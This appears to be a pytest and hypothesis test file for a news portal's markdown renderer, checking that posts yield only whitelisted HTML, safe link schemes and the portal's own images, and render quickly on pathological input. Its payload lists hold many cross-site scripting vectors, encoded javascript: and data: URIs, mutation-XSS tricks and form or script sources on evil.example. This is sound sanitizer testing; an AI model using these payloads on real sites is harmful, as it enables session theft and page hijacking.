"""Whatever is written as the text of a post, its HTML holds what is allowed alone."""

import re
import time
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from members.validators import clean_text
from news import markup

BARE = {
    *("p", "br", "hr", "ul", "ol", "li", "strong", "em", "h2", "h3", "blockquote"),
    *("figure", "figcaption", "picture"),
}
ALLOWED = dict.fromkeys(BARE, frozenset()) | {
    "a": {"href", "rel"},
    "source": {"type", "srcset", "sizes"},
    "img": {
        *("src", "srcset", "sizes", "width", "height", "alt", "loading", "decoding"),
    },
}
WITHOUT_END = {"br", "hr", "img", "source"}
# None: an address of the portal, or one that leads nowhere.
SCHEMES = {"", "http", "https", "mailto", "tel"}
OURS = re.compile(r"/aktuelles/bild/7/[0-9a-f]{16}-[0-9]+\.(webp|avif)")
SIGNS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
OWN = {7: SimpleNamespace(pk=7, width=400, height=300, name="news/sieben.webp")}


class Reader(HTMLParser):
    """Reads HTML as a browser does, and notes whatever must not be in it."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.wrong, self.seen, self.links, self.text = [], [], [], ""
        self._open = []
        self.feed(html)
        self.close()
        self.wrong += [f"not closed: {tag}" for tag in self._open]

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))
        if tag not in ALLOWED:
            self.wrong.append(f"element {tag}")
            return
        if tag not in WITHOUT_END:
            self._open.append(tag)
        names = [name for name, _value in attrs]
        if not {*names} <= ALLOWED[tag] or len(names) != len({*names}):
            self.wrong.append(f"attributes {names} of {tag}")
        for name, value in attrs:
            self._look_at(name, value or "")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if not self._open or self._open.pop() != tag:
            self.wrong.append(f"end of {tag}")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl):
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data):
        self.wrong.append(f"declaration {data}")

    def _look_at(self, name, value):
        if name == "href":
            self.links.append(value)
            # A browser strips these before it looks for a scheme.
            scheme = urlsplit(re.sub(r"[\s\x00-\x20]", "", value)).scheme
            if scheme.lower() not in SCHEMES:
                self.wrong.append(f"link to {value}")
        if name in ("src", "srcset"):
            for address in value.split(", "):
                if not OURS.fullmatch(address.split()[0]):
                    self.wrong.append(f"picture from {value}")


def read(text):
    html = markup.html(text, OWN)
    reader = Reader(html)
    if "\ue000" in html:
        reader.wrong.append("the mark of a picture")
    return reader


RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed" id="inhalt" class="button" name="body">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a id="location" name="cookie">x</a>',
    '<button hx-get="/konto/" hx-trigger="load">x</button>',
    '<div data-hx-post="/konto/" data-hx-on:load="alert(1)">x</div>',
    '<form action="//evil.example"><input name="csrfmiddlewaretoken"></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src="//evil.example">',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//x">',
    '<link rel="stylesheet" href="//evil.example">',
    "<!-- --><script>alert(1)</script -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example'?><!DOCTYPE x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script>",
    "<x-probe>",
    '"><x-probe>',
    "{{ settings.SECRET_KEY }} {% load x %}",
    "<picture><source srcset=//evil.example></picture><figure onclick=x>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>\u200balert(1)</script>\ufeff",
    "| a | b |\n|---|---|\n| <b onclick=x> | c |",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:text/html,x",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "jar:https://evil.example!/x",
    "ws://evil.example",
    "intent://x#Intent;end",
    "bild:7",
    "bild:8",
    "x:y",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><x-probe>",
    "https://a.example/`onmouseover=alert(1)`",
    "https://a.example/\ue0000\ue000",
    "https://a.example/&#xe000;0&#xe000;",
]
FORMS = {
    "a link": "[Wort]({})",
    "a link in brackets": "[Wort](<{}>)",
    "a link with a title": '[Wort]({} "Titel" onclick)',
    "an image": "![Wort]({})",
    "an image with a credit": '![Wort]({} "<x-probe onclick=alert(1)>")',
    "an autolink": "<{}>",
    "a reference": "[Wort][a]\n\n[a]: {}",
    "a short reference": "[a]\n\n[a]: {} 'Titel'",
    "an image by reference": "![a]\n\n[a]: {}",
    "an image in a link": "[![Wort](bild:7)]({})",
    "a link in an image": "![[Wort]({})](bild:7)",
    "a heading": "# [Wort]({})",
    "a quotation in a list": "- > [Wort]({})",
}
PICTURES = [
    "![a](bild:8)",
    "![a](bild:0)",
    "![a](bild:-7)",
    "![a](bild:٧)",
    "![a](bild:7x)",
    "![a](bild:07 'x')",
    "![a](bild: 7)",
    "![a](BILD:7)",
    "![a](bild:7?x=1)",
    "![a](bild:7#x)",
    "![a](bild%3A7)",
    "![a](bild:" + "7" * 18 + ")",
    "![a](bild:" + "9" * 19 + ")",
    "![a](bild:" + "9" * 5000 + ")",
    "![](bild:7)",
    '![" onerror="alert(1)](bild:7 "\\" onerror=\\"alert(1)")',
    "![<x-probe>](bild:7 '<script>alert(1)</script>')",
    "![&quot;&gt;&lt;x-probe&gt;](bild:7 '&quot;&gt;&lt;x-probe&gt;')",
    "![a](bild:7)![b](bild:7)",
    "![a](bild:7) ![b](bild:7)",
    "![![a](bild:7)](bild:7)",
    "![a](bild:7)\n![b](bild:7)",
    "> ![a](bild:7)\n\n- ![b](bild:7)\n\n1. x\n\n   ![c](bild:7)",
    "*![a](bild:7)*",
    "<bild:7>",
]
MARKS = [
    "\ue0000\ue000",
    "\ue0001\ue000",
    "\ue000" + "9" * 5000 + "\ue000",
    "&#xe000;0&#xe000;",
    "&#57344;0&#57344;",
    "\\\ue0000\\\ue000",
    "%EE%80%800%EE%80%80",
    "\ue000\ue0000\ue000\ue000",
    "![\ue0000\ue000](bild:7)",
    '![a](bild:7 "\ue0000\ue000")',
    '![a](bild:7 "&#xe000;0&#xe000;")',
    "![a](bild:7)\n\n\ue0000\ue000",
    "![a](bild:7)\n\n&#xe000;0&#xe000;",
    "[\ue0000\ue000](https://a.example/\ue000)",
    "<https://a.example/&#xe000;0&#xe000;>",
    "<p>\ue0000\ue000</p>",
]
TEXTS = [*RAW, *PICTURES, *MARKS]


def assert_harmless(text):
    for typed in (text, f"Davor.\n\n{text}\n\nDanach.", f"- {text}", f"> {text}"):
        assert read(typed).wrong == [], typed
    # Without what nobody sees, which forms take away, it may come together anew.
    cleaned = clean_text(text.replace("\0", ""))
    assert read(cleaned).wrong == [], cleaned
    assert not SIGNS.search(markup.html(cleaned, OWN)), cleaned


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_an_attack_is_words_or_nothing(text):
    assert_harmless(text)


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS.keys())
def test_no_link_and_no_picture_leads_to_a_bad_address(form):
    for address in ADDRESSES:
        assert_harmless(form.format(address))


@pytest.mark.parametrize(
    "text", [one for one in RAW if one.startswith("<s") and "\x00" not in one]
)
def test_what_was_no_markdown_stays_readable(text):
    assert "alert(1)" in read(text).text or "background" in read(text).text


def test_a_link_elsewhere_tells_nothing_of_us():
    text = "[a](https://a.example) [b](/partner/) [c](//a.example) <https://b.example>"
    links = [found for tag, found in read(text).seen if tag == "a"]

    assert [(link["href"], link.get("rel")) for link in links] == [
        ("https://a.example", "noopener"),
        ("/partner/", None),
        ("//a.example", "noopener"),
        ("https://b.example", "noopener"),
    ]


@pytest.mark.parametrize("number", [8, 70, 77, 10**17])
def test_a_picture_of_another_post_is_never_shown(number):
    reader = read(f"![Was](bild:{number})")

    assert reader.text.strip() == "Was"
    assert [tag for tag, _attributes in reader.seen] == ["p"]


def test_words_of_a_picture_stay_words():
    reader = read('![" onerror="x"><x-probe>](bild:7 "<x-probe>")')

    (image,) = [found for tag, found in reader.seen if tag == "img"]
    assert image["alt"] == '" onerror="x"><x-probe>'
    assert reader.text.strip() == "Bild: <x-probe>"


LONGEST = 50_000
# Seconds: what grew with the square of a text would take minutes.
QUICK = 8
PIECES = [
    *(">", "[", "]", "*", "_", "`", "<", "\\", "&", "#", "- ", "1. ", "+ ", "~", "|"),
    *("![", "](", "[a](", "[](", "[[]]", "**a ", "*a_", "_a*b ", "***a", "> - ", "-\n"),
    *("<a@", "<http://a", "[a]: b\n", "[a][a] ", "![a](bild:7)", "![a](bild:7)\n\n"),
    *(
        '[a](b "',
        "[a](<",
        "((",
        "\n",
        "\t",
        "\n\n> ",
        "\n- \n",
        "***\n",
        "\ue000",
        "  ",
    ),
    *("&#x", "<!--", "<svg>", "a\\\n", "a  \n", "\u0308", "🙂", "\u202e", "# #\n"),
    *("[x](https://a.example) ", "<https://a.example> ", "[a](http://b)\n\n"),
]


@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_the_longest_text_of_one_piece_is_written_quickly(piece):
    text = (piece * LONGEST)[:LONGEST]
    began = time.process_time()

    html = markup.html(text, OWN)

    assert time.process_time() - began < QUICK
    assert Reader(html).wrong == []


def test_so_do_deep_and_changing_ones():
    nested = "\n".join("  " * depth + "- a" for depth in range(220))
    quoted = "\n".join(">" * depth + " a" for depth in range(300))
    defined = "".join(f"[a{n}]: https://b.example/{n}\n" for n in range(1000))
    named = " ".join(f"[a{n}]" for n in range(1000))
    for text in (nested, quoted, f"{defined}\n{named}", "[a](b) " * 7000):
        began = time.process_time()
        html = markup.html(text[:LONGEST], OWN)
        assert time.process_time() - began < QUICK
        assert Reader(html).wrong == []


def test_many_links_are_all_marked():
    reader = read("[a](//b)" * 6000)

    assert len(reader.links) == 6000
    assert all(found["rel"] == "noopener" for tag, found in reader.seen if tag == "a")


LINKS = [form.format(one) for form in FORMS.values() for one in ADDRESSES]
PARTS = st.sampled_from(
    [*TEXTS, *LINKS, *PIECES, *ADDRESSES, "bild:7", "a", " ", "\n\n"]
)
NOISE = st.text(alphabet="<>[]()!*_`\"'&#;:/\\\n -=x7\ue000\u200b\x01", max_size=12)


@settings(max_examples=400, deadline=None)
@given(st.lists(PARTS | NOISE, max_size=12).map("".join))
def test_nothing_that_is_put_together_gets_through(text):
    assert read(text).wrong == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_nor_does_any_text(text):
    assert read(text.encode(errors="replace").decode()).wrong == []


@pytest.mark.parametrize(
    "text",
    ["Davor.\n{}", "{}\nDanach.", "Davor.\n{}\nDanach.", "- Punkt\n{}", "## Eins\n{}"],
)
def test_a_picture_on_a_line_of_its_own_is_shown(text):
    html = markup.html(text.format('![Ein Saal](bild:7 "Ada")'), OWN)

    assert html.count("<figure>") == 1
    assert 'alt="Ein Saal"' in html
    assert Reader(html).wrong == []


def test_a_picture_among_words_stays_words():
    assert "<figure>" not in markup.html("Hier ![ein Saal](bild:7), dort.", OWN)


@pytest.mark.parametrize(
    ("credit", "shown"),
    [
        ("Ada Muster", "Bild: Ada Muster"),
        ("Foto: Ada Muster", "Foto: Ada Muster"),
        ("© Ada Muster", "© Ada Muster"),
    ],
)
def test_a_credit_says_once_what_it_is(credit, shown):
    html = markup.html(f'![Ein Saal](bild:7 "{credit}")', OWN)

    assert f"<figcaption>{shown}</figcaption>" in html


@pytest.mark.parametrize(
    ("text", "is_filled_in"),
    [
        ('![Ein Saal](bild:7 "Ada")', True),
        ("![Ein Saal](bild:7)", True),
        ("Ohne Bild.", True),
        ("![](bild:7)", False),
        ('![was darauf zu sehen ist](bild:7 "Ada")', False),
        ('![Ein Saal](bild:7)\n\n![Ein Saal](bild:7 "Bildnachweis")', False),
    ],
)
def test_a_line_that_was_only_copied_is_not_filled_in(text, is_filled_in):
    assert markup.is_filled_in(text) == is_filled_in
